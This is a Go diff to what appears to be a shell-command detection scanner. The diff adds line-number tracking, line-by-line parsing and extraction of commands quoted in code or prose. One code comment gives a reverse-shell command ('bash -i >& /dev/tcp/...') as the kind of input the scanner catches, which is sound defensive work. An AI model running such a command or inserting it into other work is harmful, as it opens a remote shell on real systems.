@@ -43,6 +43,11 @@ type analysis struct {
 	// command being run is a stage of, which evidence shows rather than the stage alone.
 	src      []byte
 	pipeline *syntax.Stmt
+	// lineBase is added to the line numbers of the text parsed at the file's own level (a
+	// crontab's command field starts on its line); fileLine is the line of the file-level
+	// statement being run, which every hit inside it reports.
+	lineBase int
+	fileLine int
 	hits     *hitList
 }
 
@@ -86,31 +91,67 @@ func (a *analysis) shellText(code []byte, fds fdset) {
 	saved, savedPipe := a.src, a.pipeline
 	a.pipeline = nil
 	defer func() { a.src, a.pipeline = saved, savedPipe }()
+	top := a.nesting == 1
 	p := syntax.NewParser(syntax.Variant(syntax.LangBash))
 	if f, err := p.Parse(bytes.NewReader(code), ""); err == nil {
 		a.src = code
-		a.stmts(f.Stmts, fds)
+		for _, st := range f.Stmts {
+			if top {
+				a.fileLine = a.lineBase + int(st.Pos().Line())
+			}
+			a.stmt(st, fds)
+		}
 		return
 	}
-	for _, line := range logicalLines(code) {
-		f, err := p.Parse(bytes.NewReader(line), "")
+	for _, ll := range logicalLines(code) {
+		f, err := p.Parse(bytes.NewReader(ll.text), "")
 		if err != nil {
-			// Prose around a command: try from each word that starts one.
-			f = parseFromCommand(p, line)
-			if f == nil {
-				continue
-			}
+			continue
 		}
-		a.src = line
+		if top {
+			a.fileLine = a.lineBase + ll.line
+		}
+		a.src = ll.text
 		a.stmts(f.Stmts, fds)
 	}
 }
 
+// shellLines analyses text line by line, each line on its own (prose around a command is
+// skipped to the command), with the variables of one line seen by the next.
+func (a *analysis) shellLines(lines []logicalLine) {
+	saved, savedPipe := a.src, a.pipeline
+	defer func() { a.src, a.pipeline = saved, savedPipe }()
+	p := syntax.NewParser(syntax.Variant(syntax.LangBash))
+	for _, ll := range lines {
+		if a.budget <= 0 {
+			return
+		}
+		f, err := p.Parse(bytes.NewReader(ll.text), "")
+		if err != nil {
+			if f = parseFromCommand(p, ll.text); f == nil {
+				continue
+			}
+		}
+		a.fileLine = a.lineBase + ll.line
+		a.src, a.pipeline = ll.text, nil
+		a.stmts(f.Stmts, fdset{})
+	}
+}
+
+type logicalLine struct {
+	text []byte
+	line int // 1-based, of its first physical line
+}
+
 // logicalLines splits text into lines, joining backslash continuations.
-func logicalLines(code []byte) [][]byte {
-	var out [][]byte
+func logicalLines(code []byte) []logicalLine {
+	var out []logicalLine
 	var cur []byte
-	for _, l := range bytes.Split(code, []byte("\n")) {
+	start := 1
+	for i, l := range bytes.Split(code, []byte("\n")) {
+		if cur == nil {
+			start = i + 1
+		}
 		l = bytes.TrimRight(l, "\r")
 		if bytes.HasSuffix(l, []byte(`\`)) {
 			cur = append(cur, l[:len(l)-1]...)
@@ -118,12 +159,12 @@ func logicalLines(code []byte) [][]byte {
 		}
 		cur = append(cur, l...)
 		if len(bytes.TrimSpace(cur)) > 0 {
-			out = append(out, cur)
+			out = append(out, logicalLine{cur, start})
 		}
 		cur = nil
 	}
 	if len(bytes.TrimSpace(cur)) > 0 {
-		out = append(out, cur)
+		out = append(out, logicalLine{cur, start})
 	}
 	return out
 }
@@ -144,6 +185,14 @@ func parseFromCommand(p *syntax.Parser, line []byte) *syntax.File {
 		}
 		if f, err := p.Parse(bytes.NewReader(line[i:]), ""); err == nil {
 			return f
+		}
+		// A command quoted in code or prose: "bash -i >& /dev/tcp/h/p 0>&1" in os.system("...").
+		if i > 0 && (line[i-1] == '"' || line[i-1] == '\'' || line[i-1] == '`') {
+			if k := bytes.IndexByte(line[i:], line[i-1]); k > 0 {
+				if f, err := p.Parse(bytes.NewReader(line[i:i+k]), ""); err == nil {
+					return f
+				}
+			}
 		}
 	}
 	return nil
@@ -179,11 +228,15 @@ func oneLine(s string, n int) string {
 	return s
 }
 
+// line is the file line a hit at n reports: that of the file-level statement running.
 func (a *analysis) line(n syntax.Node) int {
+	if a.fileLine > 0 {
+		return a.fileLine
+	}
 	if n == nil {
 		return 0
 	}
-	return int(n.Pos().Line())
+	return a.lineBase + int(n.Pos().Line())
 }
 
 func (a *analysis) stmt(s *syntax.Stmt, fds fdset) {
